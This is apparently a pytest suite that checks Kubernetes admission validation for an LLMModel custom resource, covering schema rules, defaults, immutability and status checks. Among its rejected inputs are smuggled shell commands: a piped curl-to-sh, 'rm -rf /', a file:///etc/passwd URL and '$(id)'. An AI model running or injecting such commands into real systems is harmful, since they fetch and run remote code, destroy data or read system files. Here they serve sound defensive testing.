"""The API server's admission of LLMModels: schema, defaults and CEL rules of the CRD.

Every invalid object is sent as a server-side dry run and must be rejected with the message of the
rule it breaks; valid objects must be accepted with the documented defaults (docs/api.md).
"""

import copy
import time

import pytest
import yaml
from admission_cluster import GROUP, PLURAL, REPO, VERSION, kubectl
from kubernetes.client.rest import ApiException

SAMPLES = sorted((REPO / "config" / "samples").glob("inference_v1alpha1_llmmodel_*.yaml"))
SHA256 = "9fecc3b3cd76bba89d504f29b616eedf7da85b96540e490ca5824d3f7d2776a0"


def llmmodel(name="model", **spec):
    """A minimal valid LLMModel, with spec keys replaced by the given ones."""
    body = {
        "apiVersion": f"{GROUP}/{VERSION}",
        "kind": "LLMModel",
        "metadata": {"name": name},
        "spec": {
            "source": {"huggingFaceRepo": "TinyLlama/TinyLlama-1.1B-Chat-v1.0"},
            "serve": {"image": "vllm/vllm-openai:v0.6.3"},
        },
    }
    body["spec"].update(spec)
    return body


def with_source(**source):
    return llmmodel(source=source)


def with_serve(**serve):
    return llmmodel(serve={"image": "vllm/vllm-openai:v0.6.3", **serve})


def dry_run_create(custom_objects, namespace, body):
    return custom_objects.create_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL, body, dry_run="All")


def rejection(custom_objects, namespace, body):
    """The API server's message for an object it must reject."""
    with pytest.raises(ApiException) as caught:
        dry_run_create(custom_objects, namespace, body)
    assert caught.value.status == 422, caught.value.body
    return caught.value.body


INVALID = {
    "both repo and url": (
        with_source(huggingFaceRepo="a/b", url="https://example.com/model.gguf"),
        "spec.source must set exactly one of huggingFaceRepo, url or urlSecret",
    ),
    "neither repo nor url": (
        with_source(revision="main"),
        "spec.source must set exactly one of huggingFaceRepo, url or urlSecret",
    ),
    "both url and urlSecret": (
        with_source(url="https://example.com/model.gguf", urlSecret={"name": "weights-link", "key": "url"}),
        "spec.source must set exactly one of huggingFaceRepo, url or urlSecret",
    ),
    "both repo and urlSecret": (
        with_source(huggingFaceRepo="a/b", urlSecret={"name": "weights-link", "key": "url"}),
        "spec.source must set exactly one of huggingFaceRepo, url or urlSecret",
    ),
    "urlSecret without a key": (
        with_source(urlSecret={"name": "weights-link"}),
        "spec.source.urlSecret.key: Required value",
    ),
    "urlSecret name not a DNS-1123 name": (
        with_source(urlSecret={"name": "Weights_Link", "key": "url"}),
        "spec.source.urlSecret.name must be a Secret name (DNS-1123 subdomain)",
    ),
    "urlSecret key with a slash": (
        with_source(urlSecret={"name": "weights-link", "key": "../url"}),
        "spec.source.urlSecret.key must be a Secret key",
    ),
    "revision with urlSecret": (
        with_source(urlSecret={"name": "weights-link", "key": "url"}, revision="main"),
        "spec.source.revision is only valid with spec.source.huggingFaceRepo",
    ),
    "revision with url": (
        with_source(url="https://example.com/model.gguf", revision="main"),
        "spec.source.revision is only valid with spec.source.huggingFaceRepo",
    ),
    "sha256 with repo": (
        with_source(huggingFaceRepo="a/b", sha256=SHA256),
        "spec.source.sha256 is only valid with spec.source.url or spec.source.urlSecret",
    ),
    "sha256 with an s3 folder": (
        with_source(url="s3://models/llama-ft/", sha256=SHA256),
        "spec.source.sha256 checks one file, and spec.source.url names a folder",
    ),
    "sha256 with a gs folder": (
        with_source(url="gs://models/llama-ft/", sha256=SHA256, credentialsSecret="weights-gcs"),
        "spec.source.sha256 checks one file, and spec.source.url names a folder",
    ),
    "sha256 not hex": (
        with_source(url="https://example.com/model.gguf", sha256=SHA256.upper()),
        "spec.source.sha256 must be exactly 64 lowercase hexadecimal characters",
    ),
    "sha256 too short": (
        with_source(url="https://example.com/model.gguf", sha256=SHA256[:63]),
        "spec.source.sha256 must be exactly 64 lowercase hexadecimal characters",
    ),
    "repo without owner": (
        with_source(huggingFaceRepo="mistral"),
        "spec.source.huggingFaceRepo must be a repository id of the form owner/name",
    ),
    "repo with a space": (
        with_source(huggingFaceRepo="mistral ai/Mistral-7B"),
        "spec.source.huggingFaceRepo must be a repository id of the form owner/name",
    ),
    "repo with shell characters": (
        with_source(huggingFaceRepo="a/b;curl${IFS}evil.sh|sh"),
        "spec.source.huggingFaceRepo must be a repository id of the form owner/name",
    ),
    "repo too long": (
        with_source(huggingFaceRepo="o/" + "n" * 95),
        "may not be more than 96",
    ),
    "revision with shell characters": (
        with_source(huggingFaceRepo="a/b", revision="main && rm -rf /"),
        "spec.source.revision must be a branch, tag or commit",
    ),
    "url with ftp scheme": (
        with_source(url="ftp://example.com/model.gguf"),
        "spec.source.url must start with http://, https://, s3://, gs:// or az://",
    ),
    "url with file scheme": (
        with_source(url="file:///etc/passwd"),
        "spec.source.url must start with http://, https://, s3://, gs:// or az://",
    ),
    "url with whitespace": (
        with_source(url="https://example.com/my model.gguf"),
        "spec.source.url must not contain whitespace",
    ),
    "credentials secret not a DNS-1123 name": (
        with_source(huggingFaceRepo="a/b", credentialsSecret="HF_Token"),
        "spec.source.credentialsSecret must be a Secret name (DNS-1123 subdomain)",
    ),
    "gpuCount zero": (
        with_serve(gpuCount=0),
        "spec.serve.gpuCount must be at least 1",
    ),
    "port zero": (
        with_serve(port=0),
        "spec.serve.port must be between 1 and 65535",
    ),
    "port above 65535": (
        with_serve(port=65536),
        "spec.serve.port must be between 1 and 65535",
    ),
    "empty image": (
        with_serve(image=""),
        "spec.serve.image must be a non-empty image reference",
    ),
    "image with a space": (
        with_serve(image="vllm/vllm-openai: latest"),
        "spec.serve.image must be a non-empty image reference",
    ),
    "no image": (
        llmmodel(serve={"port": 8000}),
        "spec.serve.image is required when spec.serve.runtime is custom or omitted",
    ),
    "no source": (
        {**llmmodel(), "spec": {"serve": {"image": "vllm/vllm-openai:v0.6.3"}}},
        "spec.source: Required value",
    ),
    "too many args": (
        with_serve(args=["--flag"] * 65),
        "spec.serve.args: Too many",
    ),
    "args not strings": (
        with_serve(args=[{"model": "/model-weights"}]),
        "spec.serve.args[0]: Invalid value",
    ),
    "resource quantity invalid": (
        with_serve(resources={"limits": {"memory": "lots"}}),
        "spec.serve.resources.limits.memory",
    ),
    "nodeSelector value not a string": (
        with_serve(nodeSelector={"gpu": {"type": "a100"}}),
        "spec.serve.nodeSelector.gpu: Invalid value",
    ),
    "nodeSelector key not a label key": (
        with_serve(nodeSelector={"模型": "a100"}),
        "spec.serve.nodeSelector keys must be label keys",
    ),
    "nodeSelector key with a slash but no prefix": (
        with_serve(nodeSelector={"/gpu": "a100"}),
        "spec.serve.nodeSelector keys must be label keys",
    ),
    "nodeSelector value not a label value": (
        with_serve(nodeSelector={"gpu": "a100 $(id)"}),
        "spec.serve.nodeSelector values must be label values",
    ),
    "resources limit key not a resource name": (
        with_serve(resources={"limits": {"{{ 7*6 }}": "1"}}),
        "spec.serve.resources.limits keys must be resource names",
    ),
    "resources request key without a domain": (
        with_serve(resources={"requests": {"gpu": "1"}}),
        "spec.serve.resources.requests keys must be resource names",
    ),
    "storageSize not a quantity": (
        llmmodel(storageSize="lots"),
        "spec.storageSize must be a quantity greater than zero",
    ),
    "storageSize zero": (
        llmmodel(storageSize="0Gi"),
        "spec.storageSize must be a quantity greater than zero",
    ),
    "storageClass not a DNS-1123 name": (
        llmmodel(storageClass="Fast SSD"),
        "spec.storageClass must be empty or a StorageClass name",
    ),
    "revisionHistoryLimit below 0": (
        llmmodel(revisionHistoryLimit=-1),
        "spec.revisionHistoryLimit: Invalid value: -1: spec.revisionHistoryLimit in body should be greater than or equal to 0",
    ),
    "revisionHistoryLimit above 10": (
        llmmodel(revisionHistoryLimit=11),
        "spec.revisionHistoryLimit in body should be less than or equal to 10",
    ),
    "purgeWeightsOnDelete not a boolean": (
        llmmodel(purgeWeightsOnDelete="yes"),
        "spec.purgeWeightsOnDelete: Invalid value",
    ),
    "name longer than 52 characters": (
        llmmodel(name="m" * 53),
        "metadata.name must be at most 52 characters",
    ),
    "name with a dot": (
        llmmodel(name="mistral.7b"),
        "metadata.name must be a DNS-1035 label",
    ),
    "name starting with a digit": (
        llmmodel(name="7b-mistral"),
        "metadata.name must be a DNS-1035 label",
    ),
}


@pytest.mark.parametrize("body, message", INVALID.values(), ids=INVALID.keys())
def test_invalid_llmmodel_is_rejected_with_its_rule_message(custom_objects, namespace, body, message):
    assert message in rejection(custom_objects, namespace, body)


VALID = {
    "minimal Hugging Face model": llmmodel(name="minimal"),
    "url with checksum": with_source(url="s3://models/tinyllama.Q4_K_M.gguf", sha256=SHA256),
    "s3 folder with a credentials Secret": with_source(url="s3://models/llama-ft/", credentialsSecret="weights-s3"),
    "gs object with HMAC keys and a checksum": with_source(url="gs://models/m.gguf", sha256=SHA256, credentialsSecret="weights-gcs"),
    "url in a Secret, with checksum": with_source(urlSecret={"name": "weights-link.v2", "key": "signed_URL-1"}, sha256=SHA256),
    "everything set": llmmodel(
        name="full-" + "x" * 47,
        source={
            "huggingFaceRepo": "Qwen/Qwen2.5-0.5B-Instruct",
            "revision": "refs/pr/1",
            "credentialsSecret": "hf-token.v2",
        },
        serve={
            "image": "vllm/vllm-openai:v0.6.3",
            "port": 65535,
            "gpuCount": 1,
            "args": ["--model", "/model-weights"],
            "resources": {"requests": {"cpu": "500m", "memory": 1073741824, "hugepages-2Mi": "1Gi"},
                          "limits": {"memory": "8Gi", "hugepages-2Mi": "1Gi", "example.com/fpga": 1}},
            "nodeSelector": {"nvidia.com/gpu.present": "true", "kubernetes.io/os": "linux", "pool": ""},
        },
        storageSize=10737418240,
        storageClass="",
        revisionHistoryLimit=3,
    ),
}


@pytest.mark.parametrize("body", VALID.values(), ids=VALID.keys())
def test_valid_llmmodel_is_accepted_unpruned(custom_objects, namespace, body):
    created = dry_run_create(custom_objects, namespace, copy.deepcopy(body))
    expected = copy.deepcopy(body["spec"])
    expected.setdefault("storageSize", "50Gi")
    expected.setdefault("purgeWeightsOnDelete", False)
    expected.setdefault("revisionHistoryLimit", 1)
    assert created["spec"] == expected


def test_defaults_are_applied(custom_objects, namespace):
    created = dry_run_create(custom_objects, namespace, llmmodel(name="defaults"))
    # The port, runtime and replicas are the role's defaults (they depend on the runtime), not the API server's.
    assert set(created["spec"]["serve"]) == {"image"}
    assert created["spec"]["storageSize"] == "50Gi"
    assert created["spec"]["purgeWeightsOnDelete"] is False
    assert created["spec"]["revisionHistoryLimit"] == 1
    assert "revision" not in created["spec"]["source"]
    assert "storageClass" not in created["spec"]


@pytest.mark.parametrize("sample", SAMPLES, ids=[path.name for path in SAMPLES])
def test_samples_are_accepted(custom_objects, namespace, sample):
    body = yaml.safe_load(sample.read_text())
    created = dry_run_create(custom_objects, namespace, body)
    assert created["spec"]["serve"]["image"] == body["spec"]["serve"]["image"]


def test_there_are_three_samples():
    assert len(SAMPLES) == 3, [path.name for path in SAMPLES]


@pytest.fixture(scope="module")
def stored_llmmodel(custom_objects, namespace):
    """A stored LLMModel for the update rules (changed only by dry runs), deleted at the end.

    purgeWeightsOnDelete, so that an operator running against this cluster leaves nothing behind;
    the deletion waits for its finalizer.
    """
    body = llmmodel(name="resize", storageSize="10Gi", storageClass="standard", purgeWeightsOnDelete=True)
    custom_objects.create_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL, body)
    yield "resize"
    custom_objects.delete_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL, "resize")
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        try:
            custom_objects.get_namespaced_custom_object(GROUP, VERSION, namespace, PLURAL, "resize")
        except ApiException as error:
            if error.status == 404:
                return
            raise
        time.sleep(1)
    raise AssertionError("LLMModel resize was not deleted within 180s (is the operator's finalizer stuck?)")


def dry_run_patch(custom_objects, namespace, name, spec):
    return custom_objects.patch_namespaced_custom_object(
        GROUP, VERSION, namespace, PLURAL, name, {"spec": spec}, dry_run="All"
    )


def dry_run_status(custom_objects, namespace, name, status):
    return custom_objects.patch_namespaced_custom_object_status(
        GROUP, VERSION, namespace, PLURAL, name, {"status": status}, dry_run="All"
    )


@pytest.mark.parametrize("summary", ["37%", "100%", "0%", "512B", "1.5GiB", "12.0MiB"])
def test_the_progress_the_puller_reports_is_admitted(custom_objects, namespace, stored_llmmodel, summary):
    progress = {"bytesDone": 1, "bytesTotal": 3, "percent": 33, "summary": summary, "updatedAt": "2026-03-01T12:00:00Z"}
    written = dry_run_status(custom_objects, namespace, stored_llmmodel, {"weights": {"progress": progress}})
    assert written["status"]["weights"]["progress"] == progress


# Anyone who may run a pod as the puller's ServiceAccount writes this: only figures are admitted.
FORGED_PROGRESS = {
    "summary that is a message": ({"summary": "done, see http://x"}, "status.weights.progress.summary must be a percent"),
    "percent above 100": ({"percent": 101}, "should be less than or equal to 100"),
    "summary above 100 %": ({"summary": "101%"}, "status.weights.progress.summary must be a percent"),
    "negative bytes": ({"bytesDone": -1}, "should be greater than or equal to 0"),
    "bytes as text": ({"bytesDone": "lots"}, "must be of type integer"),
    "time that is no time": ({"updatedAt": "yesterday"}, "updatedAt"),
}


@pytest.mark.parametrize("progress, message", FORGED_PROGRESS.values(), ids=FORGED_PROGRESS.keys())
def test_a_progress_that_is_not_figures_is_refused(custom_objects, namespace, stored_llmmodel, progress, message):
    with pytest.raises(ApiException) as caught:
        dry_run_status(custom_objects, namespace, stored_llmmodel, {"weights": {"progress": progress}})
    assert caught.value.status == 422, caught.value.body
    assert message in caught.value.body


def test_storage_size_never_shrinks(custom_objects, namespace, stored_llmmodel):
    with pytest.raises(ApiException) as caught:
        dry_run_patch(custom_objects, namespace, stored_llmmodel, {"storageSize": "5Gi"})
    assert caught.value.status == 422
    assert "spec.storageSize may grow but never shrink; set it to at least 10Gi" in caught.value.body
    # Same size in other units, and growth, are fine.
    assert dry_run_patch(custom_objects, namespace, stored_llmmodel, {"storageSize": 10737418240})
    grown = dry_run_patch(custom_objects, namespace, stored_llmmodel, {"storageSize": "20Gi"})
    assert grown["spec"]["storageSize"] == "20Gi"


def test_storage_class_is_immutable(custom_objects, namespace, stored_llmmodel):
    for storage_class in ("fast", ""):
        with pytest.raises(ApiException) as caught:
            dry_run_patch(custom_objects, namespace, stored_llmmodel, {"storageClass": storage_class})
        assert caught.value.status == 422
        assert "spec.storageClass cannot be changed after creation" in caught.value.body


def test_other_fields_can_change(custom_objects, namespace, stored_llmmodel):
    changed = dry_run_patch(
        custom_objects, namespace, stored_llmmodel, {"source": {"revision": "v2"}, "serve": {"port": 9000}}
    )
    assert changed["spec"]["source"]["revision"] == "v2"
    assert changed["spec"]["serve"]["port"] == 9000


def test_explain_shows_field_descriptions(crd):
    # The API server publishes a new CRD's OpenAPI a moment after it is established.
    deadline = time.monotonic() + 60
    while True:
        result = kubectl("explain", "llmmodel.spec.source", check=False)
        if result.returncode == 0 or time.monotonic() > deadline:
            break
        time.sleep(2)
    assert result.returncode == 0, result.stderr
    text = " ".join(result.stdout.split())
    assert "KIND: LLMModel" in text
    assert "Where the model weights come from. Set exactly one of huggingFaceRepo" in text
    for field in ("huggingFaceRepo", "revision", "url", "sha256", "credentialsSecret"):
        assert f"{field} <string>" in text, field
    assert "Hugging Face Hub repository id in the form owner/name" in text
    assert "key HF_TOKEN, an access token" in text
    assert "AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY (required)" in text


def test_explain_spec_shows_defaults(crd):
    text = " ".join(kubectl("explain", "llmmodel.spec").stdout.split())
    assert "Default 50Gi" in text
    assert "never shrink" in text


def test_printer_columns_short_name_and_category(namespace, stored_llmmodel):
    table = kubectl("get", "llm", "-n", namespace).stdout.splitlines()
    assert table[0].split() == ["NAME", "PHASE", "READY", "PROGRESS", "MODEL", "URL", "AGE"]
    assert table[1].startswith(stored_llmmodel)
    by_category = kubectl("get", "ai", "-n", namespace, "-o", "name").stdout.split()
    assert f"llmmodel.{GROUP}/{stored_llmmodel}" in by_category
